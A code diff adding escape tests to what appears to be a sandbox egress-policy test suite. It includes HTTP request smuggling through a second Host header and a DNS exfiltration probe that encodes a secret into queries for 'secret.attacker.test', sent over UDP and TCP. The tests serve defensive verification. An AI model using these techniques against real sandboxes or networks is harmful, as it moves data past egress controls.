@@ -156,3 +156,46 @@ _tries(
     "server = socket.create_server(('127.0.0.1', OTHER))\n"
     "got = send(b'GET http://localhost:%d/ HTTP/1.1\\r\\nHost: localhost:%d\\r\\n\\r\\n' % (OTHER, OTHER))\nreached(got)",
 )
+_tries(
+    "reach a host that is not allowed by its name",
+    "name = socket.gethostbyname('other.test')\n"
+    "got = send(b'GET / HTTP/1.1\\r\\nHost: other.test:%d\\r\\nConnection: close\\r\\n\\r\\n' % PORT, PORT)\n"
+    "reached(got) if name == '127.0.0.1' else verdict(True, name)",
+)
+_tries(
+    "name an allowed host after one that is not",
+    "ask = b'GET / HTTP/1.1\\r\\nHost: %s.test:%d\\r\\n\\r\\n'\n"
+    "got = send(ask % (b'allowed', PORT) + ask % (b'other', PORT), PORT)\n"
+    "verdict(got.count(b' 200 OK') != 1 or got.count(b' 403 ') != 1, got)",
+)
+
+
+@GROUP.function("have a name looked up that carries a secret")
+async def _(ground: Ground) -> Verdict:
+    lookups: list[str] = []
+
+    async def resolve(name: str, port: int) -> Sequence[str]:
+        lookups.append(name)
+        return ["127.0.0.1"]
+
+    policy = Policy(domains=(AllowedDomain("*.allowed.test"),))
+    box = await ground.open(policy, upstream=Upstream(resolve=resolve))
+    program = """
+for name in ("secret.attacker.test", "secret.allowed.test"):
+    socket.getaddrinfo(name, 80)
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    for kind in (1, 2, 5, 12, 16, 28, 33, 252, 255):
+        question = struct.pack("!6H", kind, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
+            asking.settimeout(5)
+            asking.sendto(question, ("127.0.0.1", 53))
+            asking.recv(512)
+        with socket.create_connection(("127.0.0.1", 53), 5) as asking:
+            asking.sendall(struct.pack("!H", len(question)) + question)
+            asking.recv(512)
+print("asked")
+"""
+    result = await box.run(source_of(program, ground.things))
+    if "asked" not in result.stdout:
+        return unproven(f"nothing could be asked: {result.error}")
+    return escaped_if(bool(lookups), f"looked up: {lookups}")
